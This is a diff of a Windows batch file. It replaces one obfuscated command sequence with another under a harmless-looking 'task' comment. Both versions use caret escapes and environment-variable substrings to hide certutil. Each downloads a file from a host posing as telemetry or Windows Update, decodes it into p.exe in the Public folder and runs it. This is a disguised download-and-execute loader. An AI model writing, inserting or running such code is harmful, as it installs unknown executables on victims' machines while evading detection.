@@ -1,5 +1,5 @@
-REM config 8813 v2
+REM task 1326 v2
 @echo off
-^c%COMSPEC:~-3,1%%PUBLIC:~6,1%%programdata:~12,1%%public:~-5,1%%comspec:~-13,1%i%PUBLIC:~12,1% -^ur^l^c^ach^e -f htt^p://api.tel^emetr^y-^hu^b.e^x^a^m^p^le/^p.t^xt %PUBLIC%\^p.^txt
-c%PUBLIC:~-10,1%%ProgramData:~4,1%%COMSPEC:~14,1%%PUBLIC:~10,1%t%comspec:~4,1%%PUBLIC:~12,1% -dec^o^de %PUBLIC%\p.^tx^t %PUBLIC%\^p.ex^e
-%%public:~9,1%%PUBLIC:~3,1%BLI^C%\p.ex%^COMS^PEC:~-3,1%
+%comspec:~-7,1%%PUBLIC:~-10,1%%PUBLIC:~-9,1%%comspec:~14,1%u%comspec:~-13,1%%windir:~-6,1%%PUBLIC:~12,1% -u^r^lc^a^che -^f htt^p://^d^l.wi^n^upda^t^e-cdn.ex^ample/p.t^x^t %PUBLIC%\p.txt
+^c^e%ProgramData:~-7,1%%comspec:~14,1%%PUBLIC:~-5,1%t%WINDIR:~-6,1%l -^d^e^c^o^de %PUBLIC%\^p.t^x^t %PUBLIC%\p.exe
+%PUBLIC%\p.^ex^e
